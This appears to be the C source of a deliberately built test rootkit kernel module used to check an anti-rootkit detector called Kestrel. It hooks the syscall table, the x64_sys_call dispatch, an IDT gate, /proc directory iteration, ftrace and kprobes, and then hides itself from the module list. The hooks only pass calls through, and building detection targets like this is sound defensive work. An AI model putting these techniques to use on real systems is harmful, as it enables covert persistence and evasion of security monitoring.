// SPDX-License-Identifier: GPL-2.0-only
/*
 * TEST-ONLY rootkit for Kestrel's anti-rootkit proof (tests/qemu/rootkit.sh).
 * Never load it outside the throw-away qemu guest.
 *
 * It does what Diamorphine and its kin do, with pass-through hooks so the
 * guest keeps working:
 *   - replaces sys_call_table[__NR_kill] with its own function   (701)
 *   - redirects the call to __x64_sys_kill inside x64_sys_call, the
 *     dispatch code of Linux >= 6.9 and its backports ("FlipSwitch") (701)
 *   - replaces the handler of interrupt vector 4 (#OF, which 64-bit code
 *     cannot raise) in idt_table                                   (703)
 *   - replaces iterate_shared of /proc's root file_operations       (700)
 *   - hooks do_sys_openat2 through ftrace                         (704)
 *   - registers a kprobe on vfs_read with its own handler           (704)
 *   - deletes itself from the module list (/proc/modules, lsmod)    (702)
 *
 * kallsyms_lookup_name is not exported on 6.1: the guest script passes the
 * addresses of sys_call_table and idt_table from /proc/kallsyms. The
 * read-only tables are written with CR0.WP cleared, by a direct mov to CR0
 * (native_write_cr0 would pin WP back on).
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/list.h>
#include <linux/ptrace.h>
#include <linux/irqflags.h>
#include <asm/desc.h>
#include <asm/nospec-branch.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Kestrel test-only rootkit (qemu proof)");

static unsigned long sct;
module_param(sct, ulong, 0400);
MODULE_PARM_DESC(sct, "address of sys_call_table");
static unsigned long idt;
module_param(idt, ulong, 0400);
MODULE_PARM_DESC(idt, "address of idt_table");

static unsigned long x64call;
module_param(x64call, ulong, 0400);
MODULE_PARM_DESC(x64call, "address of x64_sys_call (optional)");
static unsigned long sysk;
module_param(sysk, ulong, 0400);
MODULE_PARM_DESC(sysk, "address of __x64_sys_kill (optional)");

#define RK_VECTOR 4
/* How far into x64_sys_call to look for the call to patch. */
#define RK_DISPATCH_MAX 16384
#define RK_FTRACE_FN "do_sys_openat2"

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn orig_kill;
typedef int (*iterate_fn)(struct file *, struct dir_context *);
static iterate_fn orig_iterate;
/* Read by the IDT stub below. */
unsigned long rk_orig_idt_handler;

static inline void rk_cr0(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
}

/* Runs fn with write protection off on this CPU, interrupts masked. */
#define WITH_WP_OFF(stmt)                                       \
	do {                                                    \
		unsigned long __flags, __cr0;                   \
		local_irq_save(__flags);                        \
		__cr0 = read_cr0();                             \
		rk_cr0(__cr0 & ~X86_CR0_WP);                    \
		stmt;                                           \
		rk_cr0(__cr0);                                  \
		local_irq_restore(__flags);                     \
	} while (0)

static long rk_kill(const struct pt_regs *regs)
{
	return orig_kill(regs);
}

static long rk_flip_kill(const struct pt_regs *regs)
{
	return ((syscall_fn)sysk)(regs);
}

/* Finds the call or jmp rel32 to __x64_sys_kill in x64_sys_call and points
 * it at rk_flip_kill. Returns 0, or -ENOENT when no such site exists. */
static int rk_flipswitch(void)
{
	u8 *p = (u8 *)x64call;
	int i;

	for (i = 0; i < RK_DISPATCH_MAX - 5; i++) {
		s32 rel;
		s64 nrel;

		if (p[i] != 0xe8 && p[i] != 0xe9)
			continue;
		memcpy(&rel, p + i + 1, 4);
		if ((unsigned long)(p + i + 5) + (long)rel != sysk)
			continue;
		nrel = (long)rk_flip_kill - (long)(p + i + 5);
		if (nrel != (s32)nrel)
			return -ERANGE;
		rel = (s32)nrel;
		WITH_WP_OFF(memcpy(p + i + 1, &rel, 4));
		pr_info("kestrel_rk: x64_sys_call+%#x now calls rk_flip_kill\n", i);
		return 0;
	}
	return -ENOENT;
}

static int rk_proc_iterate(struct file *file, struct dir_context *ctx)
{
	return orig_iterate(file, ctx);
}

/* The interrupt entry: jump on to the kernel's own handler. */
asm(".pushsection .text\n"
    ".globl rk_idt_entry\n"
    ".type rk_idt_entry, @function\n"
    "rk_idt_entry:\n"
    "	endbr64\n"
    ANNOTATE_RETPOLINE_SAFE
    "	jmp *rk_orig_idt_handler(%rip)\n"
    "	int3\n"
    ".size rk_idt_entry, .-rk_idt_entry\n"
    ".popsection\n");
void rk_idt_entry(void);

static void notrace rk_ftrace_cb(unsigned long ip, unsigned long parent_ip,
				 struct ftrace_ops *op, struct ftrace_regs *fregs)
{
}

static struct ftrace_ops rk_ops = {
	.func = rk_ftrace_cb,
};

static int rk_kprobe_pre(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe rk_kp = {
	.symbol_name = "vfs_read",
	.pre_handler = rk_kprobe_pre,
};

/* notrace: ftrace keeps the names of a module's traceable init functions
 * after their memory is freed and lists them in /proc/kallsyms under the
 * module's name, which would show the hidden module there. A rootkit
 * author can opt out as simply, so the test does. */
static int __init notrace rk_init(void)
{
	sys_call_ptr_t *table = (sys_call_ptr_t *)sct;
	gate_desc *gates = (gate_desc *)idt;
	gate_desc g;
	unsigned long h = (unsigned long)rk_idt_entry;
	struct file *proc;
	struct file_operations *fops;
	int err;

	if (!sct || !idt) {
		pr_err("kestrel_rk: pass sct= and idt= from /proc/kallsyms\n");
		return -EINVAL;
	}

	/* 701: the syscall table. */
	orig_kill = (syscall_fn)table[__NR_kill];
	WITH_WP_OFF(table[__NR_kill] = (sys_call_ptr_t)rk_kill);

	/* 701 again, for kernels that dispatch through x64_sys_call. */
	if (x64call && sysk) {
		err = rk_flipswitch();
		if (err)
			pr_warn("kestrel_rk: x64_sys_call not patched (%d)\n", err);
	}

	/* 703: one interrupt gate; the cpu_entry_area maps the same page. */
	g = gates[RK_VECTOR];
	rk_orig_idt_handler = gate_offset(&g);
	g.offset_low = (u16)h;
	g.offset_middle = (u16)(h >> 16);
	g.offset_high = (u32)(h >> 32);
	WITH_WP_OFF(gates[RK_VECTOR] = g);

	/* 700: /proc's root directory operations. */
	proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
	if (IS_ERR(proc))
		return PTR_ERR(proc);
	fops = (struct file_operations *)proc->f_op;
	orig_iterate = fops->iterate_shared;
	WITH_WP_OFF(fops->iterate_shared = rk_proc_iterate);
	filp_close(proc, NULL);

	/* 704: an ftrace hook on a syscall function. */
	err = ftrace_set_filter(&rk_ops, RK_FTRACE_FN, strlen(RK_FTRACE_FN), 0);
	if (!err)
		err = register_ftrace_function(&rk_ops);
	if (err)
		pr_warn("kestrel_rk: ftrace hook not installed (%d)\n", err);

	err = register_kprobe(&rk_kp);
	if (err)
		pr_warn("kestrel_rk: kprobe not registered (%d)\n", err);

	/* 702: gone from /proc/modules (and so from kallsyms) and from
	 * /sys/module, as common rootkits hide; only the kernel's module
	 * address tree still has it. */
	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	pr_info("kestrel_rk: hooks installed, module hidden\n");
	return 0;
}
module_init(rk_init);
/* No exit: a hidden module cannot be unloaded; the guest powers off. */
